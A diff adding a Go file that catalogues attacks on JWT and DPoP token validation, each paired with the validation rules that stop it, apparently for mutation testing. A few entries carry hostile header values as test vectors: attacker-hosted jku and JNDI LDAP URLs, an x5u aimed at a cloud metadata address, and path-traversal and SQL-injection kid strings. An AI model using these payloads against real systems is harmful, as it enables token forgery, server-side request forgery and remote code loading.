@@ -1,0 +1,150 @@
+package main
+
+// An attack is what somebody tries, and the rules that stop it. Where nothing
+// can be taken out, since the code that would fall for it does not exist,
+// vectors stand for the rules: "file: name".
+type attack struct {
+	name    string
+	rules   []string
+	vectors []string
+}
+
+// attacks group the mutants. Each rule is of one attack.
+var attacks = []attack{
+	// Signatures and keys.
+	{"An unsigned token", []string{"the signature is not empty", "the signature is checked"}, []string{"algorithms: unsigned, alg none, empty signature"}},
+	{"Another algorithm in the header", []string{"alg is on the list", "only known algorithms"}, nil},
+	{"The public key as a shared secret", []string{"HS algorithms need a secret", "a secret is for HS algorithms", "a secret has its size"}, nil},
+	{"A key used with an algorithm that it is not for", []string{"alg is what the key says", "alg fits the key's curve", "alg fits the key's type"}, nil},
+	{"The token brings its own key", nil, []string{
+		`headers: jwk and no kid, signed by it`,
+		`headers: jku "https://attacker.example/jwks.json", signed by it`,
+		`headers: x5u "http://169.254.169.254/latest/meta-data/", signed by it`,
+	}},
+	{"An injection by the name of a key", nil, []string{
+		`headers: kid is "../../../../dev/null"`, `headers: kid is "' OR '1'='1"`, `headers: kid is "${jndi:ldap://attacker.example/a}"`,
+	}},
+	{"A signature that verifies more than it should", []string{"signatures have one length", "PSS salts are as long as the hash"}, nil},
+	{"A weak key in the key set", []string{
+		"RSA keys have 2048 bits", "RSA exponents are odd and at least 3", "RSA moduli are odd", "RSA moduli without a known weakness",
+		"EC points have all their digits", "Ed25519 keys of small order are left out",
+	}, nil},
+	{"A key that was not meant for signatures, or was published whole", []string{
+		"private keys are left out", "keys for encryption are left out", "keys without the operation verify are left out",
+	}, nil},
+	{"Another issuer's or another tenant's key", []string{
+		"a key that names an issuer signs for it alone", "a key's issuer is a string", "{tenantid} is the token's tid",
+		"{tenantid} is nothing without a tid", "an issuer's keys are its own", "a kid names a key, of a set",
+	}, nil},
+
+	{"Metadata of another issuer, or keys from elsewhere", []string{
+		"metadata is of the issuer that was asked", "a jwks_uri is an https URL", "only a 200 has keys", "redirects are not followed",
+	}, nil},
+
+	// Reading.
+	{"Two readings of one token", []string{
+		"no two members of one name at the top", "no two members of one name within", "claims' names are exact", "header members' names are exact",
+		"JSON is UTF-8", "nothing stands after the object", "no half of a surrogate pair", "no control characters in strings",
+		"no leading zeros in numbers", "no unknown escapes",
+	}, nil},
+	{"A second spelling of a token that was revoked", []string{
+		"unused bits are zero", "no characters but the alphabet's", "no length that nothing has", "cnf's hashes have one spelling",
+	}, nil},
+	{"An extension that switches a check off", []string{"crit is refused", "b64 is true"}, nil},
+	{"A member of another type than its reader expects", []string{"kid is a string", "typ is a string", "claims have their types"}, nil},
+	{"Two claims that answer one question", []string{"client_id and azp agree", "scp only without scope"}, nil},
+
+	// Claims.
+	{"Another kind of token", []string{
+		"typ is absent, JWT or at+jwt", "what only other types have", "events", "token_introspection", "response_type", "the claim typ", "token_use",
+		"nonce with at_hash or c_hash", "RFC 9068's type", "RFC 9068's claims",
+	}, nil},
+	{"A token of another issuer", []string{"iss is ours", "iss is exact in case", "iss is exact in its slash"}, nil},
+	{"A token for another API", []string{"aud has ours", "aud is exact", "aud is not empty"}, nil},
+	{"A token after its time, or before it", []string{
+		"exp is required", "exp has not passed", "exp itself is too late", "nbf has come", "iat has come", "whole dates are in range",
+		"dates with fractions are in range",
+	}, nil},
+	{"A token of another organization", []string{
+		"org_id is exact", "org_name is exact", "only ASCII is lowered", "org_id is no name",
+		"a token for no organization is for none", "org_name is no ID",
+	}, nil},
+	{"A token that does not allow it", []string{"all scopes", "permissions are not scopes", "clients are exact"}, nil},
+
+	// Binding.
+	{"A stolen token that was bound to a key", []string{
+		"cnf needs a proof", "cnf is proven by something", "cnf is proven by the right key", "cnf names no second key",
+		"cnf has something that is understood", "cnf's hashes have their length", "a token under DPoP is bound to the proof's key",
+		"a token under DPoP is bound",
+	}, nil},
+	{"A proof for another request", []string{
+		"a proof's method", "a proof's method is exact", "a proof's host", "a proof's path",
+		"a request's path stays below its origin's", "a request's path doesn't name the host",
+	}, nil},
+	{"A proof of another token", []string{"a proof's ath is there", "a proof's ath is the token's"}, nil},
+	{"A proof that is used again", []string{
+		"a proof is used once", "a proof's name is its key's and jti's, not its signature's", "a proof's jti is there",
+		"a replay store takes nothing that has expired",
+	}, nil},
+	{"A proof that was made long ago, or in advance", []string{
+		"a proof's age", "a proof is not of the future", "a proof's exp", "a proof's nbf", "a proof's iat is there", "a proof's nonce",
+		"a nonce has its code", "a nonce is of a late step",
+	}, nil},
+	{"A forged proof", []string{
+		"one DPoP field", "a proof's type", "a proof's algorithm", "a proof's claims have their types", "a proof's signature",
+		"a proof's key has public members only", "a proof's key says its algorithm",
+	}, nil},
+	{"A certificate that the connection does not have", []string{
+		"one Client-Cert field", "the proxy's own certificate is not the client's", "answers vary by the certificate",
+	}, nil},
+
+	// Requests.
+	{"Credentials that two readers read differently", []string{
+		"one Authorization field", "only Bearer", "a space after the scheme", "a token of b64token characters", "no token in the query as well",
+	}, nil},
+	{"A way around the check", []string{
+		"optional is for no credentials", "a check is not optional", "only the token's source says that there is none",
+		"a preflight is allowed where it is said", "a preflight is OPTIONS", "a preflight has an Origin", "a preflight asks for a method",
+		"a preflight has no credentials",
+	}, nil},
+	{"A token on another issuer's host", []string{
+		"a token is used on its issuer's host", "a host without an issuer has no tokens", "a host has one dot at its end at most",
+		"a host is in ASCII", "a host has no zone",
+	}, nil},
+	{"A header that only a proxy may write", []string{
+		"a proxy is believed from its network", "the first proxy of ours is believed, not what is before it", "an origin doesn't end early",
+	}, nil},
+	{"Text of the sender's in the response", []string{"quotation marks are escaped", "no error code without credentials"}, nil},
+
+	// What is remembered.
+	{"A remembered token that would be rejected now", []string{
+		"a remembered token expires", "a remembered token is not yet valid before its time", "a remembered token's key is for its algorithm",
+		"a remembered token's key is still its issuer's", "a remembered token's checks run", "a remembered token's key is still there",
+		"a remembered token's binding is proven", "a remembered token is the same in full",
+	}, nil},
+	{"Claims of another request", []string{"checks have claims of their own", "a request has claims of its own"}, nil},
+
+	// Cost.
+	{"A token that costs much to read", []string{
+		"the token has a size", "the header has a size", "depth of objects", "depth of arrays", "number of members",
+	}, nil},
+	{"A token that costs much to verify", []string{"RSA keys have 8192 bits at most", "few keys are tried", "a proof's key has a size", "a proof's jti is bounded"}, nil},
+	{"Garbage that makes the API fetch keys", []string{
+		"no key is fetched for another type", "no key is fetched for another issuer", "no key is fetched for another audience",
+		"no key is fetched for an expired token",
+	}, nil},
+	{"More proofs than the store holds", []string{"a replay store refuses when it is full", "a replay store forgets what has expired"}, nil},
+	{"An outage of the issuer", []string{"an outage is a 503"}, nil},
+
+	// Configurations.
+	{"A configuration that lets too much pass", []string{
+		"an issuer is an https URL", "an issuer has no query", "an issuer has no credentials", "an issuer has no fragment", "an issuer has a host",
+		"there is an issuer", "there is an audience", "an audience is not empty", "leeway has a limit", "token size has a limit",
+	}, nil},
+	{"None: an honest request that must pass", []string{
+		"typ may have application/ before it", "nonce or at_hash alone is allowed", "InsecureSkipTypeCheck skips", "nbf itself is in time",
+		"iat itself is in time", "cnf's members that are not understood are ignored", "org_name is what is asked for in lower case",
+		"the scheme has no case", "hosts have no case", "the scheme's own port is none", "dots in a path are resolved",
+		"a host's name is the same in any case",
+	}, nil},
+}
